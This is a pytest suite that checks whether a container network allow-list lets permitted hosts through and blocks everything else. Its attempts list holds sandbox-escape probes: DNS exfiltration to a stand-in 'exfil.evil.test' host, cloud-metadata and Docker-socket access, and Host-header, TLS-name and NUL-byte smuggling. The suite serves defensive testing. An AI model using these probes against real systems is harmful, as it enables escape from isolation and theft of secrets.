"""`network: {allow: […]}` on a real engine: what is allowed works, and nothing else leaves, whatever is tried."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import ipaddress
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from harness.containers import BASE_IMAGE, names_on_the_engine
from harness.wait import until, until_ended
from harness.workspace import Workspace, program, text

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

ALLOWED = ["api.allowed.test:443", "web.allowed.test:8080", "other.allowed.test:8080", "db.allowed.test:5432"]
WILD = "*.wild.test:8080"
NAMES = [one.partition(":")[0] for one in ALLOWED] + ["sub.wild.test", "denied.test"]
TLS = """
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
with socket.create_connection(({to!r}, {port})) as plain, context.wrap_socket(plain, server_hostname={name!r}) as tls:
    tls.sendall(b"x"); print(tls.recv(200))
"""
RAW = """
import socket
with socket.create_connection(({to!r}, {port})) as s:
    s.sendall({data!r}); print(s.recv(300))
"""


def _certificate(folder: Path) -> Path:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "world")])
    now = dt.datetime.now(dt.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=2))
        .sign(key, hashes.SHA256())
    )
    encoding, plain = serialization.Encoding.PEM, serialization.NoEncryption()
    file = folder / "world.pem"
    file.write_bytes(
        key.private_bytes(encoding, serialization.PrivateFormat.PKCS8, plain) + made.public_bytes(encoding)
    )
    file.chmod(0o644)
    return file


MISTAKES = ("SyntaxError", "NameError", "TypeError", "ValueError", "AttributeError", "IndexError", "struct.error")
"""An attempt that ends so was not stopped, it was written wrongly."""
HELLO = """
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
out = ssl.MemoryBIO()
try: context.wrap_bio(ssl.MemoryBIO(), out, server_hostname={name!r}).do_handshake()
except ssl.SSLWantReadError: pass
said = out.read()
if {nul!r}: said = said.replace({nul!r}.encode(), b"\\0" + {nul!r}[1:].encode())
with socket.create_connection(({to!r}, {port})) as s:
    for at in range(0, len(said), 40): s.sendall(said[at:at + 40])
    print(s.recv(300))
"""
ASK = """
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(({to!r}, 53))
name = b"".join(bytes([len(one)]) + one for one in {name!r}.encode().split(b"."))
s.send(b"\\1\\2\\1\\0\\0\\1" + bytes(6) + name + b"\\0" + struct.pack("!HH", {kind}, 1))
answers = struct.unpack_from("!H", s.recv(500), 6)[0]
if not answers: raise LookupError("no answer")
print(answers)
"""


class World:
    """A container outside, in the network that the server's way out leads to."""

    def __init__(self, workspace: Workspace, folder: Path) -> None:
        self._client = docker.from_env()
        certificate = _certificate(folder)
        programs = workspace.directory / "programs"
        self.container: Any = self._client.containers.create(
            BASE_IMAGE,
            ["python3", "-u", "/world.py", "/world.pem"],
            network_mode="none",
            volumes=[f"{programs / 'world.py'}:/world.py:ro", f"{certificate}:/world.pem:ro"],
        )
        self._client.api.disconnect_container_from_network(self.container.id, "none")
        self._network = f"{workspace.name}-s_out"
        self._join()
        self.container.start()
        until(lambda: b"ready" in self.container.logs(), "the world is there")
        self.container.reload()
        networks = self.container.attrs["NetworkSettings"]["Networks"]
        self.address: str = networks[f"{workspace.name}-s_out"]["IPAddress"]

    def _join(self) -> None:
        self._client.api.connect_container_to_network(self.container.id, self._network, aliases=NAMES)

    def changes(self, workspace: Workspace) -> None:
        """`up` while this stands aside: the network that it is in is made anew."""
        self._client.api.disconnect_container_from_network(self.container.id, self._network, force=True)
        workspace.up()
        workspace.when_ready("s")
        self._join()

    def close(self) -> None:
        with contextlib.suppress(docker.errors.NotFound):
            self.container.remove(force=True)
        self._client.close()

    @property
    def was_asked(self) -> bool:
        return b"asked" in self.container.logs()


class Listener:
    """A service of this machine, on all addresses, that says so to whoever connects."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("0.0.0.0", 0))
        self.port: int = self._socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.sendall(b"the host")

    def close(self) -> None:
        self._socket.close()


def _hosts() -> list[str]:
    """The addresses of this machine, and the gateways of all networks."""
    client = docker.from_env()
    found = {"127.0.0.1"}
    for network in client.api.networks():
        for entry in (network.get("IPAM") or {}).get("Config") or ():
            subnet = ipaddress.ip_network(entry["Subnet"])
            found |= {entry.get("Gateway") or str(subnet[1])}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        found.add(probe.getsockname()[0])
    client.close()
    return sorted(found)


@pytest.fixture(scope="module")
def workspace() -> Iterator[Workspace]:
    made = Workspace()
    made.save(
        {
            "s": program("prober.py", network={"allow": [*ALLOWED, WILD]}),
            "t": program("prober.py", network={"allow": ["api.allowed.test:443"]}),
            "web": {
                **program("prober.py", network={"allow": ["api.allowed.test:443"]}, environment={"PORT": "8931"}),
                "transport": {"http": {"port": 8931}},
            },
        },
        runners={"pypi": BASE_IMAGE},
    )
    made.run("trust", "--all", code=None)
    made.up()
    made.when_ready("s", "t", "web")
    yield made
    made.destroy()


@pytest.fixture(scope="module")
def world(workspace: Workspace, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(workspace, tmp_path_factory.mktemp("world"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def host() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def inside(workspace: Workspace, code: str, server: str = "s") -> str:
    """Run *code* in the server's container."""

    async def call() -> str:
        async with workspace.client() as client:
            return text(await client.call_tool(f"{server}__run", {"code": code}))

    return asyncio.run(call())


def leg_of(workspace: Workspace, server: str = "s") -> str:
    """The address of the server's way out, inside."""
    return _addresses(f"{workspace.name}-{server}_leg")[f"{workspace.name}-{server}"]


def outer_of(workspace: Workspace) -> str:
    """The address of the server's way out, outside."""
    return _addresses(f"{workspace.name}-s_leg")[f"{workspace.name}-s_out"]


def _addresses(container: str) -> dict[str, str]:
    with contextlib.closing(docker.from_env()) as client:
        networks = client.api.inspect_container(container)["NetworkSettings"]["Networks"]
    return {name: str(network["IPAddress"]) for name, network in networks.items()}


def assert_allowed_works(workspace: Workspace) -> None:
    assert "world" in inside(workspace, TLS.format(to="api.allowed.test", port=443, name="api.allowed.test"))
    get = b"GET / HTTP/1.1\r\nHost: web.allowed.test:8080\r\n\r\n"
    assert "world" in inside(workspace, RAW.format(to="web.allowed.test", port=8080, data=get))
    in_pieces = HELLO.format(to="api.allowed.test", port=443, name="api.allowed.test", nul="")
    assert "raised" not in (said := inside(workspace, in_pieces)), said
    assert said.strip() != "b''"
    asked = ASK.format(to=leg_of(workspace), name="c2VjcmV0.wild.test", kind=1)
    assert inside(workspace, asked).strip() == "1"
    first = "import socket; s = socket.create_connection(('db.allowed.test', 5432)); print(s.recv(100))"
    assert "world speaks first" in inside(workspace, first)
    assert "world" in inside(workspace, RAW.format(to="db.allowed.test", port=5432, data=b"x"))


def attempts(workspace: Workspace, world: World, host: Listener) -> dict[str, str]:
    """What a hijacked server would try, by name."""
    leg, other, there = leg_of(workspace), leg_of(workspace, "t"), world.address
    connect = "import socket; s = socket.create_connection(({!r}, {})); s.sendall(b'x'); print(s.recv(100))"
    lookup = "import socket; print(socket.getaddrinfo({!r}, 443))"
    http = "{} HTTP/1.1\r\nHost: {}\r\n\r\n"

    def web(line: str, name: str) -> str:
        return RAW.format(to="web.allowed.test", port=8080, data=http.format(line, name).encode())

    found = {
        "its address": connect.format(there, 443),
        "its address, another port": connect.format(there, 9999),
        "a public resolver": (
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); "
            "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03com\\x00\\x00\\x01\\x00\\x01',"
            "('8.8.8.8', 53)); print(s.recv(500))"
        ),
        "a resolver outside": (
            f"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); "
            f"s.sendto(b'x' * 20, ({there!r}, 53)); print(s.recv(500))"
        ),
        "a public address": connect.format("1.1.1.1", 443),
        "cloud metadata": connect.format("169.254.169.254", 80),
        "cloud metadata by name": lookup.format("metadata.google.internal"),
        "this machine by name": lookup.format("host.docker.internal"),
        "its own gateway": connect.format(leg.rpartition(".")[0] + ".1", host.port),
        "a port nobody allowed": connect.format(leg, 9999),
        "the way in of the gateway": connect.format(leg, 20_002),
        "the other server": connect.format(other, 443),
        "the other server by name": lookup.format(f"{workspace.name}-t-1"),
        "the outer network by name": lookup.format("denied.test"),
        "a name with a message in it": lookup.format("c2VjcmV0.exfil.evil.test"),
        "another TLS name": TLS.format(to="api.allowed.test", port=443, name="denied.test"),
        "a longer TLS name": TLS.format(to="api.allowed.test", port=443, name="api.allowed.test.evil.test"),
        "another Host": web("GET /", "denied.test"),
        "a Host that only ends alike": web("GET /", "evilwild.test"),
        "the bare domain": web("GET /", "wild.test"),
        "two Hosts": web("GET /", "web.allowed.test\r\nHost: denied.test"),
        "a whole address": web("GET http://denied.test/", "web.allowed.test"),
        "a tunnel": web("CONNECT denied.test:443", "denied.test"),
        "an address with a name behind a NUL": web("GET /", f"{there}\0.wild.test"),
        "a TLS name behind a NUL": HELLO.format(
            to="web.allowed.test", port=8080, name=f"{there}a.wild.test", nul="a.w"
        ),
        "a hello in small pieces": HELLO.format(to="api.allowed.test", port=443, name="denied.test", nul=""),
        "bytes that name nobody": RAW.format(to="web.allowed.test", port=8080, data=b"\x00\x01hello\r\n\r\n"),
        "a wildcard that leads to a private network": web("GET /", "sub.wild.test"),
        "the engine's socket": "import os; print(os.listdir('/var/run'), open('/var/run/docker.sock'))",
        "a text record for a message": ASK.format(to=leg, name="c2VjcmV0.exfil.evil.test", kind=16),
        "a text record of an allowed name": ASK.format(to=leg, name="c2VjcmV0.wild.test", kind=16),
        "datagrams to the way out": (
            f"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); "
            f"s.connect(({leg!r}, 443)); s.send(b'x'); s.send(b'x'); print(s.recv(10))"
        ),
        "the way out's other side": connect.format(outer_of(workspace), 20_002),
        "the other way out": connect.format(leg_of(workspace, "t"), 53),
        "a raw socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('raw')",
        "a packet socket": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('raw')",
        "another route": (
            "import fcntl, socket, struct; s = socket.socket(); "
            "fcntl.ioctl(s, 0x890B, b'\\0' * 120); print('route set')"
        ),
        "an IPv6 neighbour": (
            "import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(2); "
            "s.sendto(b'x', ('ff02::1', 9, 0, socket.if_nametoindex('eth0'))); print('sent', s.recv(10))"
        ),
    }
    for address in _hosts():
        found[f"this machine at {address}"] = connect.format(address, host.port)
    return found


def assert_none_succeeds(workspace: Workspace, world: World, host: Listener) -> None:
    tried = attempts(workspace, world, host)
    assert len(tried) >= 25

    async def all_of_them() -> dict[str, str]:
        async with workspace.client() as client:
            said = await asyncio.gather(*(client.call_tool("s__run", {"code": code}) for code in tried.values()))
            return dict(zip(tried, map(text, said), strict=True))

    for name, said in asyncio.run(all_of_them()).items():
        escaped = "world" in said or "the host" in said or ("raised" not in said and said.strip() not in {"", "b''"})
        assert not escaped, f"{name}: {said}"
        assert not any(mistake in said for mistake in MISTAKES), f"{name} was not tried: {said}"
    assert not world.was_asked


def test_allowed_hosts_work_and_no_attempt_succeeds(workspace: Workspace, world: World, host: Listener) -> None:
    assert_allowed_works(workspace)
    assert_none_succeeds(workspace, world, host)


def test_a_server_over_http_with_an_allow_list_is_reached_and_reaches_nothing_else(
    workspace: Workspace, host: Listener
) -> None:
    assert inside(workspace, "print(6 * 7)", "web").strip() == "42"
    for address in _hosts():
        code = f"import socket; print(socket.create_connection(({address!r}, {host.port})).recv(100))"
        assert "raised" in inside(workspace, code, "web"), address


def test_nothing_changes_when_the_gateway_is_killed_and_comes_back(
    workspace: Workspace, world: World, host: Listener
) -> None:
    gateway = workspace.gateway()
    gateway.kill()
    until_ended(gateway)
    workspace.up()
    workspace.when_ready("s")
    assert_allowed_works(workspace)
    assert_none_succeeds(workspace, world, host)


def test_when_the_way_out_is_gone_nothing_leaves_and_the_next_up_mends_it(workspace: Workspace, world: World) -> None:
    client = docker.from_env()
    client.containers.get(f"{workspace.name}-s_leg").kill()
    said = inside(workspace, TLS.format(to="api.allowed.test", port=443, name="api.allowed.test"))
    assert "raised" in said
    workspace.up()
    workspace.when_ready("s")
    assert_allowed_works(workspace)
    client.close()


def test_another_list_waits_for_approval_and_then_takes_effect(workspace: Workspace, world: World) -> None:
    before = workspace.file.read_text()
    first = "import socket; s = socket.create_connection(('db.allowed.test', 5432)); print(s.recv(100))"
    workspace.save_text(before.replace("db.allowed.test:5432", "other.allowed.test:5432"))
    refused = workspace.run("up", "-d", code=6)
    assert "network of `s` needs your approval" in refused.stderr
    assert "other.allowed.test:5432" in workspace.run("trust").stdout
    assert "world" in inside(workspace, first)

    workspace.run("trust", "--all")
    world.changes(workspace)
    assert "raised" in inside(workspace, first)
    assert "world" in inside(workspace, first.replace("db.", "other."))

    workspace.save_text(before)
    world.changes(workspace)
    assert "world" in inside(workspace, first)


def test_another_image_for_the_way_out_waits_for_approval(workspace: Workspace) -> None:
    before = workspace.file.read_text()
    assert f"pypi: {BASE_IMAGE}" in before
    workspace.save_text(before.replace(f"pypi: {BASE_IMAGE}", "pypi: somebody/elses:1"))
    workspace.run("up", "-d", code=6)
    assert "somebody/elses:1" in workspace.run("trust").stdout
    workspace.save_text(before)
    workspace.up()


def test_a_list_that_is_taken_away_takes_the_way_out_with_it(workspace: Workspace) -> None:
    before = workspace.file.read_text()
    servers = {
        "s": program("prober.py", network={"allow": [*ALLOWED, WILD]}),
        "t": program("prober.py", network="isolated"),
    }
    workspace.save(servers, runners={"pypi": BASE_IMAGE})
    workspace.up()
    workspace.when_ready("s", "t")

    client = docker.from_env()
    names = names_on_the_engine(client)
    client.close()
    own = f"{workspace.name}-t"
    assert {name for name in names if name.startswith(own)} == {own, f"{own}-1"}
    lookup = "import socket; print(socket.getaddrinfo('api.allowed.test', 443))"
    assert "raised" in inside(workspace, lookup, "t")

    workspace.save_text(before)
    workspace.up()
    workspace.when_ready("t")


def test_down_leaves_nothing_of_it(workspace: Workspace, world: World) -> None:
    world.close()
    workspace.run("down", "-v")
    client = docker.from_env()
    names = names_on_the_engine(client)
    assert not [name for name in names if name.startswith(workspace.name)]
    client.close()
